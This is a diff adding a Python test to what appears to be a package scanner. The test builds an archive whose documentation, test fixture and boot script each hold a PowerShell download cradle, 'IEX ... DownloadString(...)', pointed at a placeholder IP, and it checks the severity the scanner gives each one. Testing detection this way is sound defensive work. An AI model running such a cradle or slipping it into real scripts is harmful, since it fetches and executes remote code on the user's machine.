@@ -146,3 +146,29 @@ def test_archives_are_scanned_through_their_members(tmp_path: Path) -> None:
     report = run_exam(target, Config())
     embedded = [f for f in report.findings if f.rule_id == "yara.embedded_pe"]
     assert embedded == []  # the DLL starts at offset 0 of its own member
+
+
+def test_behaviour_matches_in_manuals_and_tests_are_leads_not_stops(tmp_path: Path) -> None:
+    cradle = "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.7/a.ps1')\n"
+    archive = write(
+        tmp_path / "pkg-1.0.tar.gz",
+        tar_bytes(
+            {
+                "pkg-1.0/doc/install.rst": "Install scoop first::\n\n  " + cradle,
+                "pkg-1.0/tests/fixture.ps1": cradle,
+                "pkg-1.0/pkg/boot.ps1": cradle,
+            },
+            mode="w:gz",
+        ),
+    )
+    report = run_exam(archive, Config(only=("yara",)))
+    severity = {
+        f.location.path: f.severity.value
+        for f in report.findings
+        if f.rule_id == "yara.powershell_download_cradle" and f.location
+    }
+    assert severity == {
+        "pkg-1.0/doc/install.rst": "medium",
+        "pkg-1.0/tests/fixture.ps1": "medium",
+        "pkg-1.0/pkg/boot.ps1": "high",
+    }
